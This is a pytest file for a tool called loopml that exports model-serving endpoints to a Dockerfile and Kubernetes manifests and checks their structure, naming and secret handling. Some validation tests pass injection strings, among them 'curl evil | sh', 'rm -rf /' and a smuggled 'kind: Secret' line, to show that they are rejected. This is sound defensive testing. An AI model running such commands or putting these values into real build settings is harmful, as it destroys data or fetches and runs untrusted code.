"""Exported deployment files, read back the way Docker and Kubernetes would read them."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
import yaml

from loopml.auth import local_actor
from loopml.core.config import Settings
from loopml.core.errors import InvalidParameter
from loopml.serving.endpoints import EndpointsClient
from loopml.serving.entities import EndpointConfig, EndpointVersion, Route
from loopml.serving.export import export_docker, export_kubernetes, kubernetes_name
from loopml.store.database import Database

DNS_LABEL = re.compile(r"[a-z]([-a-z0-9]*[a-z0-9])?")
PASSWORD = "s3cr3t-Pa55word"
SERVE = ["loopml", "serve", "Churn_Model.v2", "--host", "0.0.0.0", "--port", "8080"]


@pytest.fixture
def version(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> EndpointVersion:
    """An endpoint version saved in a real embedded store whose URL carries a password."""
    monkeypatch.setenv("LOOPML_DATABASE_URL", f"postgresql+psycopg://app:{PASSWORD}@db/loopml")
    db = Database(Settings.from_env(tmp_path / "home").database_url)
    db.initialize()
    config = EndpointConfig(
        routes=[
            Route("primary", "models:/churn@champion", 90),
            Route("canary", "models:/churn/7", 10),
        ],
        shadows=[Route("next", "models:/churn/8", 0.0)],
        sticky="header:X-User-Id",
        max_batch_size=32,
    )
    endpoints = EndpointsClient(db, local_actor())
    endpoints.create("Churn_Model.v2", EndpointConfig.single("models:/churn/6"))
    made = endpoints.update("Churn_Model.v2", config, comment="canary 7")
    db.dispose()
    return made


def instructions(dockerfile: Path) -> list[tuple[str, str]]:
    """(INSTRUCTION, arguments) for each logical line, continuations joined, comments dropped."""
    logical: list[str] = []
    pending = ""
    for line in dockerfile.read_text().splitlines():
        if not pending and (not line.strip() or line.lstrip().startswith("#")):
            continue
        if line.endswith("\\"):
            pending += line[:-1] + " "
            continue
        logical.append(pending + line)
        pending = ""
    assert not pending, "a continuation runs off the end of the Dockerfile"
    return [(word.upper(), rest.strip()) for word, _, rest in (s.partition(" ") for s in logical)]


def test_the_dockerfile_serves_the_endpoint(version: EndpointVersion, tmp_path: Path) -> None:
    written = export_docker(version, tmp_path / "docker")
    assert sorted(p.name for p in written) == [".dockerignore", "Dockerfile"]
    steps = instructions(tmp_path / "docker" / "Dockerfile")
    words = [word for word, _ in steps]
    found = dict(steps)
    assert words[0] == "FROM"
    assert found["FROM"] == "python:3.11-slim"
    assert found["EXPOSE"] == "8080"
    assert "pip install loopml" in found["RUN"]
    assert not {"COPY", "ADD"} & set(words)  # nothing from the folder goes in
    assert found["USER"] == "10001"
    healthcheck = found["HEALTHCHECK"]
    assert healthcheck.startswith("--interval=")
    probe = json.loads(healthcheck.partition(" CMD ")[2])
    assert probe[:2] == ["python", "-c"]
    assert "http://127.0.0.1:8080/v2/health/live" in probe[2]
    assert json.loads(found["CMD"]) == SERVE
    environment = " ".join(rest for word, rest in steps if word == "ENV")
    assert "LOOPML_DATABASE_URL=" in environment
    assert "LOOPML_ARTIFACT_ROOT=" in environment
    text = (tmp_path / "docker" / "Dockerfile").read_text()
    assert "override both at run time" in text
    assert 'loopml.endpoint.version="2"' in found["LABEL"]
    ignored = (tmp_path / "docker" / ".dockerignore").read_text().splitlines()
    assert [line for line in ignored if not line.startswith("#")] == ["*"]


def test_the_base_image_and_package_can_be_chosen(version: EndpointVersion, tmp_path: Path) -> None:
    export_docker(version, tmp_path, image_base="python:3.12-slim", loopml_spec="loopml[s3]==0.4")
    found = dict(instructions(tmp_path / "Dockerfile"))
    assert found["FROM"] == "python:3.12-slim"
    assert found["RUN"].startswith("pip install 'loopml[s3]==0.4' ")
    with pytest.raises(InvalidParameter, match="image_base must be one word"):
        export_docker(version, tmp_path / "x", image_base="python:3.11\nRUN curl evil | sh")
    with pytest.raises(InvalidParameter, match="loopml_spec must be one word"):
        export_docker(version, tmp_path / "x", loopml_spec="loopml && rm -rf /")
    assert not (tmp_path / "x").exists()


def load(paths: list[Path]) -> dict[str, dict[str, Any]]:
    """Every YAML document of the export, by kind (each kind appears once)."""
    documents = [doc for path in paths for doc in yaml.safe_load_all(path.read_text())]
    kinds = {doc["kind"]: doc for doc in documents}
    assert len(kinds) == len(documents)
    return kinds


def test_the_kubernetes_manifests(version: EndpointVersion, tmp_path: Path) -> None:
    written = export_kubernetes(version, tmp_path / "k8s", image="registry.example/churn:2")
    assert sorted(p.name for p in written) == [
        "configmap.yaml",
        "deployment.yaml",
        "hpa.yaml",
        "service.yaml",
    ]
    kinds = load(written)
    assert {k: d["apiVersion"] for k, d in kinds.items()} == {
        "ConfigMap": "v1",
        "Deployment": "apps/v1",
        "Service": "v1",
        "HorizontalPodAutoscaler": "autoscaling/v2",
    }
    config_map, deployment = kinds["ConfigMap"], kinds["Deployment"]
    assert json.loads(config_map["data"]["endpoint.json"]) == version.config.to_dict()
    assert config_map["metadata"]["annotations"] == {
        "loopml/endpoint": "Churn_Model.v2",
        "loopml/version": "2",
    }

    spec = deployment["spec"]
    assert spec["replicas"] == 2
    pod = spec["template"]["spec"]
    assert spec["selector"]["matchLabels"] == spec["template"]["metadata"]["labels"]
    (container,) = pod["containers"]
    assert container["image"] == "registry.example/churn:2"
    assert container["command"] == SERVE
    assert container["ports"] == [{"name": "http", "containerPort": 8080, "protocol": "TCP"}]
    for probe, path in [
        ("readinessProbe", "/v2/health/ready"),
        ("livenessProbe", "/v2/health/live"),
    ]:
        assert container[probe]["httpGet"] == {"path": path, "port": 8080}
    assert set(container["resources"]) == {"requests", "limits"}
    assert container["resources"]["requests"]["cpu"]  # what the autoscaler's target is a share of
    mounts = {m["name"]: m for m in container["volumeMounts"]}
    volumes = {v["name"]: v for v in pod["volumes"]}
    assert volumes["endpoint-config"]["configMap"]["name"] == config_map["metadata"]["name"]
    assert mounts["endpoint-config"]["mountPath"] == "/etc/loopml"
    environment = {e["name"]: e for e in container["env"]}
    assert environment["LOOPML_DATABASE_URL"] == {
        "name": "LOOPML_DATABASE_URL",
        "valueFrom": {"secretKeyRef": {"name": "loopml-store", "key": "database-url"}},
    }
    assert pod["securityContext"]["runAsNonRoot"] is True

    service = kinds["Service"]["spec"]
    assert service["selector"] == spec["selector"]["matchLabels"]
    assert service["ports"] == [{"name": "http", "port": 80, "targetPort": 8080, "protocol": "TCP"}]
    autoscaler = kinds["HorizontalPodAutoscaler"]["spec"]
    assert autoscaler["scaleTargetRef"] == {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "name": deployment["metadata"]["name"],
    }
    assert (autoscaler["minReplicas"], autoscaler["maxReplicas"]) == (2, 8)
    (metric,) = autoscaler["metrics"]
    assert metric["resource"] == {
        "name": "cpu",
        "target": {"type": "Utilization", "averageUtilization": 70},
    }


def test_names_are_dns_safe_and_namespaced(version: EndpointVersion, tmp_path: Path) -> None:
    written = export_kubernetes(
        version, tmp_path, image="churn:2", replicas=3, namespace="ml-prod", max_replicas=5
    )
    kinds = load(written)
    names = {k: d["metadata"]["name"] for k, d in kinds.items()}
    assert names == {
        "ConfigMap": "churn-model-v2-config",
        "Deployment": "churn-model-v2",
        "Service": "churn-model-v2",
        "HorizontalPodAutoscaler": "churn-model-v2",
    }
    assert all(DNS_LABEL.fullmatch(name) for name in names.values())
    assert {d["metadata"]["namespace"] for d in kinds.values()} == {"ml-prod"}
    autoscaler = kinds["HorizontalPodAutoscaler"]["spec"]
    assert (autoscaler["minReplicas"], autoscaler["maxReplicas"]) == (3, 5)
    assert kinds["Deployment"]["spec"]["replicas"] == 3


def test_no_secret_value_is_written(version: EndpointVersion, tmp_path: Path) -> None:
    written = [
        *export_docker(version, tmp_path / "docker"),
        *export_kubernetes(version, tmp_path / "k8s", image="churn:2"),
    ]
    for path in written:
        text = path.read_text()
        assert PASSWORD not in text
        assert "app:" not in text
        assert not re.search(r"^\s*[&*]id\d", text, re.MULTILINE)  # no YAML anchors either
    container = load(written[2:])["Deployment"]["spec"]["template"]["spec"]["containers"][0]
    from_secrets = [e for e in container["env"] if e["name"].endswith(("_URL", "_ROOT"))]
    assert [sorted(e) for e in from_secrets] == [["name", "valueFrom"]] * 2


@pytest.mark.parametrize(
    ("endpoint", "name"),
    [("churn", "churn"), ("Churn_Model.v2", "churn-model-v2"), ("a__b--c.", "a-b-c"), ("X", "x")],
)
def test_kubernetes_names(endpoint: str, name: str) -> None:
    assert kubernetes_name(endpoint) == name


@pytest.mark.parametrize("endpoint", ["1churn", "-_.", "x" * 57])
def test_a_name_that_cannot_be_made_safe_is_an_error(endpoint: str, tmp_path: Path) -> None:
    version = EndpointVersion(endpoint, 1, EndpointConfig.single("models:/m/1"), 0, "me", "")
    with pytest.raises(InvalidParameter, match="which is not a DNS label of at most 56"):
        export_kubernetes(version, tmp_path / "out", image="m:1")
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    ("settings", "message"),
    [
        ({"replicas": 0}, "replicas must be at least 1; got 0"),
        ({"replicas": 3, "max_replicas": 2}, r"max_replicas \(2\) is below replicas \(3\)"),
        ({"cpu_target_percent": 0}, "cpu_target_percent must be 1-100"),
        ({"namespace": "Prod_NS"}, "namespace 'Prod_NS' must be a DNS label"),
        ({"store_secret": "a b"}, "store_secret 'a b' must be a DNS label"),
        ({"image": "churn:2\nkind: Secret"}, "image must be one word"),
    ],
)
def test_bad_settings_are_named(
    version: EndpointVersion, tmp_path: Path, settings: dict[str, Any], message: str
) -> None:
    arguments: dict[str, Any] = {"image": "churn:2", **settings}
    with pytest.raises(InvalidParameter, match=message):
        export_kubernetes(version, tmp_path / "out", **arguments)
    assert not (tmp_path / "out").exists()
